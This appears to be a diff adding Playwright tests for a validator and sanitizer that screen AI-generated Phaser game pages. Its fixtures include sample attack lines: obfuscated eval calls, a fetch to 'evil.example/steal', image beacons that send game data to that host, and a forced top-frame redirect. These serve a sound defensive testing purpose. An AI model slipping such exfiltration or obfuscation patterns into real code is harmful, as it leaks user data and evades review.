@@ -0,0 +1,143 @@
+import { expect, test } from '@playwright/test';
+import { analyzeGameCode, autoFixGameCode } from '../server/services/codeAnalyzer.js';
+import { validateEngineOutput } from '../server/services/engineValidators.js';
+import { sanitizeAIOutput, validateAIOutput } from '../server/services/outputValidator.js';
+import { resolveEngineProfile } from '../server/services/engineRegistry.js';
+
+const page = (script: string, head = '') =>
+  `<!DOCTYPE html><html><head><title>Game</title>${head}</head><body><script>\n${script}\n</script></body></html>`;
+
+const platformer = resolveEngineProfile({
+  prompt: 'make a jungle platformer where I jump over spikes and collect coins',
+  gameConfig: { genreFamily: 'platformAction', dimension: '2d', gameType: 'platformer' },
+});
+
+test.describe('parser-based game code analysis', () => {
+  test('flags real call sites, not comments or strings, and sees through spelled-out names', () => {
+    const decoys = page(`
+      // TODO: never eval(x) or fetch("https://evil.example") here
+      const tip = "localStorage and document.cookie are off limits";
+      fetch('levels.json');
+    `);
+    expect(analyzeGameCode(decoys).security).toEqual([]);
+    expect(validateAIOutput(decoys)).toEqual({ safe: true, violations: [] });
+
+    const sneaky = page(`
+      window['ev' + 'al']('1 + 1');
+      const store = window['local' + 'Storage'];
+      self.fetch(\`https://evil.example/steal\`);
+      new WebSocket(serverUrl);
+      setTimeout('alert(1)', 10);
+    `);
+    expect(validateAIOutput(sneaky).violations).toEqual([
+      'eval()',
+      'storage access',
+      'external fetch',
+      'external WebSocket',
+      'string timer',
+    ]);
+
+    const beacons = page(`
+      beacon.src = 'https://evil.example/log?score=' + 42;
+      img.setAttribute('src', \`https://evil.example/\${score}\`);
+      location.href = 'https://evil.example/';
+      sprite.src = 'https://cdn.jsdelivr.net/npm/some-lib/pic.png';
+      tile.src = 'assets/' + name + '.png';
+    `);
+    expect(validateAIOutput(beacons)).toEqual({
+      safe: false,
+      violations: ['external script source', 'external navigation'],
+    });
+
+    // Markup outside the scripts is still checked, and unparseable code falls back to the regexes
+    expect(validateAIOutput(page('', '<button onclick="localStorage.clear()">x</button>')).violations).toEqual([
+      'storage access',
+    ]);
+    const broken = page('eval("x"); function (');
+    expect(analyzeGameCode(broken).parsed).toBe(false);
+    expect(validateAIOutput(broken).violations).toContain('eval()');
+  });
+
+  test('sanitizing neutralizes every flagged call site and leaves the game parseable', () => {
+    const game = page(
+      `
+      const best = Number(localStorage.getItem('best')) || 0
+      window['ev' + 'al']('1 + 1');
+      fetch(levelUrl).then((r) => r.json());
+      setTimeout('alert(1)', 10);
+      beacon.src = 'https://evil.example/log?score=' + best;
+      window.top.location.href = 'https://evil.example/';
+      document.cookie = 'seen=1';
+      sprite.src = 'https://cdn.jsdelivr.net/npm/some-lib/pic.png';
+      requestAnimationFrame(loop);
+    `,
+      '<button onclick="eval(code)">x</button>',
+    );
+    expect(validateAIOutput(game).safe).toBe(false);
+
+    const cleaned = sanitizeAIOutput(game);
+    const analysis = analyzeGameCode(cleaned);
+    expect(analysis.parsed).toBe(true);
+    expect(analysis.security).toEqual([]);
+    expect(validateAIOutput(cleaned)).toEqual({ safe: true, violations: [] });
+    // The line without a semicolon doesn't swallow the stand-in that follows it
+    expect(cleaned).toContain('|| 0\n      /* [blocked: eval()] */ undefined;');
+    expect(cleaned).toContain("sprite.src = 'https://cdn.jsdelivr.net/npm/some-lib/pic.png';");
+    expect(analysis.callSites.has('requestAnimationFrame')).toBe(true);
+  });
+
+  test('engine contract needs a real Phaser.Game call and a restart path', () => {
+    const commentedOut = page(`
+      // const game = new Phaser.Game(config);
+      const config = { physics: { default: 'arcade' }, scale: { mode: Phaser.Scale.FIT } };
+      this.scene.restart();
+    `);
+    expect(validateEngineOutput(commentedOut, platformer).violations).toEqual(['Phaser\\.Game']);
+
+    const noRestart = page(`
+      const game = new Phaser.Game({ physics: { default: 'arcade' }, scale: { mode: Phaser.Scale.FIT } });
+      player.setVelocityY(-300);
+    `);
+    const validation = validateEngineOutput(noRestart, platformer);
+    expect(validation.safe).toBe(true);
+    expect(validation.warnings).toContain('missing restart handler');
+    expect(validation.warnings).not.toContain('missing responsive scale config');
+
+    const withRestart = noRestart.replace('player.setVelocityY(-300);', "button.on('pointerdown', restartGame);");
+    expect(validateEngineOutput(withRestart, platformer).warnings).not.toContain('missing restart handler');
+  });
+
+  test('auto-fixes the scale config and touch-action, and reports what it did', () => {
+    const code = page(`
+      const config = { type: Phaser.AUTO, width: 800, height: 600, physics: { default: 'arcade' } };
+      const game = new Phaser.Game(config);
+    `);
+    expect(validateEngineOutput(code, platformer).warnings).toEqual(
+      expect.arrayContaining(['missing touch-action protection', 'missing responsive scale config']),
+    );
+
+    const fixed = autoFixGameCode(code);
+    expect(fixed.fixes).toEqual(['phaser-scale-fit', 'touch-action-none']);
+    expect(fixed.code).toContain(
+      '{ scale: { mode: Phaser.Scale.FIT, autoCenter: Phaser.Scale.CENTER_BOTH }, type: Phaser.AUTO',
+    );
+    expect(fixed.code).toContain('<style>canvas { touch-action: none; }</style>\n</head>');
+    const warnings = validateEngineOutput(fixed.code, platformer).warnings;
+    expect(warnings).not.toContain('missing touch-action protection');
+    expect(warnings).not.toContain('missing responsive scale config');
+    expect(autoFixGameCode(fixed.code).fixes).toEqual([]);
+
+    // A scale block without a mode gets one; an explicit non-responsive mode is left alone
+    const partial = autoFixGameCode(
+      page('new Phaser.Game({ scale: { width: 800 } });', '<style>canvas{touch-action:none}</style>'),
+    );
+    expect(partial.code).toContain(
+      'scale: { mode: Phaser.Scale.FIT, autoCenter: Phaser.Scale.CENTER_BOTH, width: 800 }',
+    );
+    const deliberate = page(
+      'new Phaser.Game({ scale: { mode: Phaser.Scale.NONE } });',
+      '<style>canvas{touch-action:none}</style>',
+    );
+    expect(autoFixGameCode(deliberate)).toEqual({ code: deliberate, fixes: [] });
+  });
+});